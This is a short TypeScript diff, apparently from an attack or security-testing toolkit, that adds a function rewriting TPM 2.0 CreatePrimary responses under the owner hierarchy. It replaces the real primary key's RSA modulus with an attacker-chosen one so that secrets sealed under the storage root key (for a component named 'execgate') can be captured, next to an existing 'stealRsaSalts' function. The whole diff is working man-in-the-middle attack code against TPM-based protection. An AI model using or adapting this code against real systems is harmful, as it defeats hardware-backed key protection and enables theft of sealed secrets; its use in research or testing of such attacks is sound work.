@@ -168,3 +168,25 @@ export function stealRsaSalts(privateKey: KeyObject, stolen: Buffer[], ekHandle 
     return cmd;
   };
 }
+
+/**
+ * A response rewrite for CreatePrimary under the owner hierarchy (the SRK execgate's sealed secrets live
+ * under): reports `unique` (the attacker's RSA modulus, of the real one's size) instead of the new
+ * primary's, the rest as it was. `seen` gets the primary's handle and its real public area.
+ */
+export function swapOwnerPrimary(
+  unique: Uint8Array,
+  seen: (handle: number, real: TPMT_PUBLIC) => void = () => {},
+): Rewrite {
+  return (rsp, cmd) => {
+    if (commandCode(cmd) !== 0x131 || cmd.readUInt32BE(10) !== 0x40000001 || rsp.readUInt32BE(6) !== 0)
+      return rsp;
+    // header, objectHandle, parameterSize, outPublic (TPM2B), the rest.
+    const pubLen = rsp.readUInt16BE(18);
+    const real = unmarshal(TPMT_PUBLIC, rsp.subarray(20, 20 + pubLen));
+    seen(rsp.readUInt32BE(10), real);
+    const fake = marshal(TPMT_PUBLIC, { ...real, unique } as TPMT_PUBLIC);
+    if (fake.length !== pubLen) throw new Error('swapOwnerPrimary: the stand-in key is not of the real size');
+    return Buffer.concat([rsp.subarray(0, 20), fake, rsp.subarray(20 + pubLen)]);
+  };
+}
